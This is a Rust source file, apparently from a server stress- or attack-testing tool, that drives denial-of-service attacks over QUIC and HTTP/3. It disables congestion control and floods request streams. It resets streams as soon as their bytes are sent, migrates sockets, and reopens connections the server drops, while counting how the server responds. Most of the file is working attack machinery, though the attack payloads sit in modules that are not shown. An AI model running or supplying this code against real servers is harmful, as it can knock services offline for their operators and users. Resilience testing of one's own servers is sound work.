//! Attack connection over QUIC, which ignores congestion control and sends whatever the attack tells it.

use std::any::Any;
use std::collections::VecDeque;
use std::io;
use std::net::{SocketAddr, UdpSocket};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::{Bytes, BytesMut};
use failure::{Failure, FailureContext};
use http3::{Http3Code, OwnStream};
use net::TlsClient;
use quinn_proto::congestion::{Controller, ControllerFactory};
use quinn_proto::crypto::rustls::QuicClientConfig;
use quinn_proto::{
    ClientConfig, Connection, ConnectionError, ConnectionHandle, DatagramEvent, Dir, Endpoint,
    EndpointConfig, Event, ReadError, StreamEvent, StreamId, TransportConfig, TransportErrorCode, VarInt,
};

use super::attacker::AttackProgress;
use super::outcomes::ConnectionOutcomes;
use super::quic_attacks::{QuicAction, QuicAttack, QuicTarget, RequestEnding, STREAMS};
use super::quic_wire::stream_start;

/// Timeout for the handshake.
const CONNECT: Duration = Duration::from_secs(2);
/// Pause before a connection that the server has closed is replaced.
const PAUSE: Duration = Duration::from_millis(20);
/// Bytes that wait for flow control, from which on there are no further turns.
const UNSENT_BYTES_MAX: usize = 64 * 1024;
/// Bytes that the server may leave unacknowledged.
const SEND_WINDOW: u64 = 1 << 20;
/// Maximum number of datagrams received in a row, before other connections get their turn.
const RECEIVED_MAX: usize = 64;
/// Larger than any datagram that a server sends without being asked for larger ones.
const DATAGRAM_BYTES: usize = 2_048;

/// Congestion control that never limits.
#[derive(Clone, Copy, Debug)]
struct NoCongestionControl;

impl ControllerFactory for NoCongestionControl {
    fn build(self: Arc<Self>, _now: Instant, _mtu: u16) -> Box<dyn Controller> {
        Box::new(*self)
    }
}

impl Controller for NoCongestionControl {
    fn on_congestion_event(&mut self, _now: Instant, _sent: Instant, _is_persistent: bool, _lost: u64) {}

    fn on_mtu_update(&mut self, _mtu: u16) {}

    // Above 4 GiB there is no pacing either.
    fn window(&self) -> u64 {
        u64::MAX / 4
    }

    fn clone_box(&self) -> Box<dyn Controller> {
        Box::new(*self)
    }

    fn initial_window(&self) -> u64 {
        self.window()
    }

    fn into_any(self: Box<Self>) -> Box<dyn Any> {
        self
    }
}

/// Creates a socket with a port of its own that sends to the server.
pub(super) fn connect_socket(server: SocketAddr) -> Result<UdpSocket, Failure> {
    let any = if server.is_ipv6() { "[::]:0" } else { "0.0.0.0:0" };
    let connect = || {
        let socket = UdpSocket::bind(any)?;
        socket.connect(server)?;
        socket.set_nonblocking(true)?;
        Ok::<UdpSocket, io::Error>(socket)
    };
    connect().context("cannot make a UDP socket")
}

/// Request stream on which more may be sent.
struct AttackRequest {
    id: StreamId,
    unsent: Vec<u8>,
    ending: RequestEnding,
}

/// An established or beginning connection.
struct AttackConnection {
    socket: UdpSocket,
    endpoint: Endpoint,
    handle: ConnectionHandle,
    quic: Connection,
    began: Instant,
    is_connected: bool,
    own: Vec<(StreamId, Vec<u8>)>,
    requests: Vec<AttackRequest>,
    /// Streams whose bytes were given to QUIC: they are reset when these were sent.
    resets: Vec<StreamId>,
    queue: VecDeque<QuicAction>,
    turn: usize,
    next_turn: Instant,
    /// Whether the connection stays as it is from now on.
    holds: bool,
    end: Option<AttackConnectionEnd>,
}

/// The way in which a connection ended.
enum AttackConnectionEnd {
    Lost(ConnectionError),
    /// Nothing listens on the port.
    Unreachable,
    /// Closed by the attack.
    Left,
}

/// One of an attack's connections, replaced whenever it ends.
pub(super) struct QuicAttacker<'a> {
    attack: QuicAttack,
    target: &'a QuicTarget,
    server: SocketAddr,
    server_name: String,
    config: ClientConfig,
    progress: &'a AttackProgress,
    connection: Option<Box<AttackConnection>>,
    next_connect: Instant,
}

impl<'a> QuicAttacker<'a> {
    /// Creates an attacker that connects in its first step.
    ///
    /// # Errors
    /// Fails if the TLS settings do not fit QUIC.
    pub(super) fn new(
        attack: &QuicAttack,
        target: &'a QuicTarget,
        server: SocketAddr,
        tls: &TlsClient,
        progress: &'a AttackProgress,
    ) -> Result<QuicAttacker<'a>, Failure> {
        let (tls, name) = tls.quic();
        let crypto = QuicClientConfig::try_from(tls).map_err(Failure::new)?;
        let mut transport = TransportConfig::default();
        transport
            .receive_window(attack.connection_window.into())
            .stream_receive_window(attack.stream_window.into())
            .send_window(SEND_WINDOW)
            .mtu_discovery_config(None)
            .congestion_controller_factory(Arc::new(NoCongestionControl));
        let mut config = ClientConfig::new(Arc::new(crypto));
        config.transport_config(Arc::new(transport));
        Ok(QuicAttacker {
            attack: *attack,
            target,
            server,
            server_name: name.to_str().into_owned(),
            config,
            progress,
            connection: None,
            next_connect: Instant::now(),
        })
    }

    /// Receives, takes the next turn if it is due, and sends. Returns whether anything was done.
    ///
    /// # Errors
    /// Fails if there is no socket.
    pub(super) fn step(&mut self, now: Instant) -> Result<bool, Failure> {
        let Some(connection) = &mut self.connection else {
            if now < self.next_connect {
                return Ok(false);
            }
            self.connection = Some(Box::new(self.connect(now)?));
            return Ok(true);
        };
        let mut is_active = connection.receive(now);
        connection.take_events(self.attack.reads_responses, self.progress);
        if connection.is_connected && connection.end.is_none() {
            is_active |= connection.reset_streams();
            is_active |= connection.take_turn(&self.attack, self.target, now);
            is_active |= connection.perform_actions(self.server, self.progress, now)?;
        }
        is_active |= connection.transmit(self.progress, now);
        let is_late = !connection.is_connected && connection.began + CONNECT < now;
        if connection.end.is_some() || is_late {
            let end = connection.end.take();
            self.next_connect =
                now + if matches!(end, Some(AttackConnectionEnd::Left)) { Duration::ZERO } else { PAUSE };
            count_end(end, &mut self.progress.outcomes.borrow_mut());
            self.connection = None;
        }
        Ok(is_active)
    }

    /// Counts a connection that the server has not ended.
    pub(super) fn finish(self) {
        if self.connection.is_some_and(|connection| connection.is_connected) {
            self.progress.outcomes.borrow_mut().open += 1;
        }
    }

    fn connect(&self, now: Instant) -> Result<AttackConnection, Failure> {
        let socket = connect_socket(self.server)?;
        let mut endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), None, false, None);
        let connected = endpoint.connect(now, self.config.clone(), self.server, &self.server_name);
        let (handle, quic) = connected.map_err(Failure::new)?;
        Ok(AttackConnection {
            socket,
            endpoint,
            handle,
            quic,
            began: now,
            is_connected: false,
            own: Vec::new(),
            requests: Vec::new(),
            resets: Vec::new(),
            queue: VecDeque::new(),
            turn: 0,
            next_turn: now,
            holds: false,
            end: None,
        })
    }
}

/// Counts how a connection ended; `None` for a handshake that was not answered in time.
fn count_end(end: Option<AttackConnectionEnd>, outcomes: &mut ConnectionOutcomes) {
    match end {
        Some(AttackConnectionEnd::Left) => outcomes.left += 1,
        None | Some(AttackConnectionEnd::Unreachable) => outcomes.refused += 1,
        Some(AttackConnectionEnd::Lost(error)) => match error {
            ConnectionError::ConnectionClosed(close)
                if close.error_code == TransportErrorCode::CONNECTION_REFUSED =>
            {
                outcomes.refused += 1;
            }
            ConnectionError::ConnectionClosed(close) => {
                outcomes.count_quic_close(format!("{:?}", close.error_code));
            }
            ConnectionError::ApplicationClosed(close) => {
                outcomes.count_quic_close(code_name(close.error_code));
            }
            ConnectionError::Reset => outcomes.count_quic_close("stateless reset".into()),
            ConnectionError::TimedOut => outcomes.timed_out += 1,
            _ => outcomes.closed += 1,
        },
    }
}

fn code_name(code: VarInt) -> String {
    match Http3Code(code.into_inner()).text() {
        "" => format!("code {code}"),
        name => name.to_string(),
    }
}

impl AttackConnection {
    fn receive(&mut self, now: Instant) -> bool {
        let mut buffer = [0; DATAGRAM_BYTES];
        let mut received = 0;
        while received < RECEIVED_MAX {
            match self.socket.recv(&mut buffer) {
                Ok(len) => {
                    received += 1;
                    let server = self.quic.remote_address();
                    let datagram = BytesMut::from(&buffer[..len]);
                    let event = self.endpoint.handle(now, server, None, None, datagram, &mut Vec::new());
                    if let Some(DatagramEvent::ConnectionEvent(_, event)) = event {
                        self.quic.handle_event(event);
                    }
                }
                Err(error) if error.kind() == io::ErrorKind::ConnectionRefused && !self.is_connected => {
                    self.end = Some(AttackConnectionEnd::Unreachable);
                    break;
                }
                Err(_) => break,
            }
        }
        if self.quic.poll_timeout().is_some_and(|at| at <= now) {
            self.quic.handle_timeout(now);
        }
        received > 0
    }

    fn take_events(&mut self, reads: bool, progress: &AttackProgress) {
        while let Some(event) = self.quic.poll() {
            match event {
                Event::Connected => {
                    self.is_connected = true;
                    progress.connections.set(progress.connections.get() + 1);
                    for stream in OwnStream::ALL {
                        if let Some(id) = self.quic.streams().open(Dir::Uni) {
                            self.own.push((id, stream_start(stream)));
                        }
                    }
                }
                Event::ConnectionLost { reason } if self.end.is_none() => {
                    self.end = Some(AttackConnectionEnd::Lost(reason));
                }
                Event::Stream(StreamEvent::Opened { dir }) => {
                    while let Some(id) = self.quic.streams().accept(dir) {
                        if reads {
                            self.read(id, progress);
                        }
                    }
                }
                Event::Stream(StreamEvent::Readable { id }) if reads => self.read(id, progress),
                Event::Stream(StreamEvent::Stopped { id, error_code }) => {
                    self.requests.retain(|request| request.id != id);
                    let what = format!("STOP_SENDING {}", code_name(error_code));
                    progress.outcomes.borrow_mut().count_stream_end(what);
                }
                _ => {}
            }
        }
    }

    /// Reads and discards what has arrived.
    fn read(&mut self, id: StreamId, progress: &AttackProgress) {
        let mut receiving = self.quic.recv_stream(id);
        let Ok(mut chunks) = receiving.read(false) else { return };
        loop {
            match chunks.next(usize::MAX) {
                Ok(Some(_)) => {}
                Err(ReadError::Reset(code)) => {
                    let what = format!("RESET_STREAM {}", code_name(code));
                    progress.outcomes.borrow_mut().count_stream_end(what);
                    break;
                }
                Ok(None) | Err(ReadError::Blocked) => break,
            }
        }
        // The next packets are made in any case.
        let _ = chunks.finalize();
    }

    /// Resets the streams whose bytes have been sent.
    fn reset_streams(&mut self) -> bool {
        let code = VarInt::from_u32(Http3Code::REQUEST_CANCELLED.0 as u32);
        let has_streams = !self.resets.is_empty();
        for id in self.resets.drain(..) {
            // The server may have ended them already.
            let _ = self.quic.send_stream(id).reset(code);
            let _ = self.quic.recv_stream(id).stop(code);
        }
        has_streams
    }

    /// Adds the next turn's actions if those before are done and it is due.
    fn take_turn(&mut self, attack: &QuicAttack, target: &QuicTarget, now: Instant) -> bool {
        let requests = self.requests.iter().map(|request| request.unsent.len());
        let unsent: usize = requests.chain(self.own.iter().map(|(_, unsent)| unsent.len())).sum();
        let is_behind = !self.queue.is_empty() || unsent > UNSENT_BYTES_MAX;
        if is_behind || self.holds || now < self.next_turn {
            return false;
        }
        self.queue.extend((attack.turn)(target, self.turn));
        self.holds = self.queue.is_empty();
        self.turn += 1;
        self.next_turn = now + Duration::from_millis(attack.pause_ms);
        !self.holds
    }

    /// Performs the actions that are possible now, and gives QUIC the bytes that it accepts.
    fn perform_actions(
        &mut self,
        server: SocketAddr,
        progress: &AttackProgress,
        now: Instant,
    ) -> Result<bool, Failure> {
        let mut is_active = false;
        while let Some(action) = self.queue.pop_front() {
            if let Some(action) = self.perform(action, server, progress, now)? {
                self.queue.push_front(action);
                break;
            }
            is_active = true;
        }
        self.write();
        Ok(is_active)
    }

    /// Performs an action. Returns it if the server allows no further stream at the moment.
    fn perform(
        &mut self,
        action: QuicAction,
        server: SocketAddr,
        progress: &AttackProgress,
        now: Instant,
    ) -> Result<Option<QuicAction>, Failure> {
        match action {
            QuicAction::Request(bytes, ending) => {
                let Some(id) = self.quic.streams().open(Dir::Bi) else {
                    return Ok(Some(QuicAction::Request(bytes, ending)));
                };
                self.requests.push(AttackRequest { id, unsent: bytes, ending });
            }
            QuicAction::Refill(bytes) => {
                while self.requests.len() < STREAMS {
                    let Some(id) = self.quic.streams().open(Dir::Bi) else { break };
                    self.requests.push(AttackRequest {
                        id,
                        unsent: bytes.clone(),
                        ending: RequestEnding::Open,
                    });
                }
            }
            QuicAction::Append(bytes) => {
                self.requests.iter_mut().for_each(|request| request.unsent.extend_from_slice(&bytes));
            }
            QuicAction::Flood { start, more } => match self.requests.first_mut() {
                Some(request) => request.unsent.extend(more),
                None => {
                    let Some(id) = self.quic.streams().open(Dir::Bi) else {
                        return Ok(Some(QuicAction::Flood { start, more }));
                    };
                    let unsent = [start, more].concat();
                    self.requests.push(AttackRequest { id, unsent, ending: RequestEnding::Open });
                }
            },
            QuicAction::Own(stream, bytes) => {
                if let Some((_, unsent)) = self.own.get_mut(stream as usize) {
                    unsent.extend(bytes);
                }
            }
            QuicAction::Ping => {
                self.quic.ping();
                self.transmit(progress, now);
            }
            QuicAction::Migrate => {
                self.write();
                self.transmit(progress, now);
                self.socket = connect_socket(server)?;
            }
            QuicAction::Close => {
                self.write();
                self.transmit(progress, now);
                let code = VarInt::from_u32(Http3Code::NO_ERROR.0 as u32);
                self.quic.close(now, code, Bytes::new());
                self.end = Some(AttackConnectionEnd::Left);
            }
            // These need no connection.
            QuicAction::Initials(_) | QuicAction::Datagram(_) => {}
        }
        Ok(None)
    }

    /// Gives QUIC the bytes that flow control allows, and ends the streams that are complete.
    fn write(&mut self) {
        let AttackConnection { quic, own, requests, resets, .. } = self;
        for (id, unsent) in own {
            // The server may have stopped it, which is an error of the connection.
            let written =
                if unsent.is_empty() { 0 } else { quic.send_stream(*id).write(unsent).unwrap_or(0) };
            unsent.drain(..written);
        }
        requests.retain_mut(|request| {
            if !request.unsent.is_empty() {
                match quic.send_stream(request.id).write(&request.unsent) {
                    Ok(written) => _ = request.unsent.drain(..written),
                    Err(quinn_proto::WriteError::Blocked) => {}
                    Err(_) => return false,
                }
            }
            match request.ending {
                RequestEnding::Finish if request.unsent.is_empty() => {
                    let _ = quic.send_stream(request.id).finish();
                    false
                }
                RequestEnding::Reset if request.unsent.is_empty() => {
                    resets.push(request.id);
                    false
                }
                _ => true,
            }
        });
    }

    /// Sends all packets that QUIC has. Returns whether there were any.
    fn transmit(&mut self, progress: &AttackProgress, now: Instant) -> bool {
        while let Some(event) = self.quic.poll_endpoint_events() {
            if let Some(event) = self.endpoint.handle_event(self.handle, event) {
                self.quic.handle_event(event);
            }
        }
        let mut datagram = Vec::with_capacity(DATAGRAM_BYTES);
        let mut has_sent = false;
        while let Some(transmit) = self.quic.poll_transmit(now, 1, &mut datagram) {
            // A datagram that the socket does not take is lost, and sent again.
            if let Ok(sent) = self.socket.send(&datagram[..transmit.size]) {
                progress.sent_bytes.set(progress.sent_bytes.get() + sent as u64);
            }
            datagram.clear();
            has_sent = true;
        }
        has_sent
    }
}
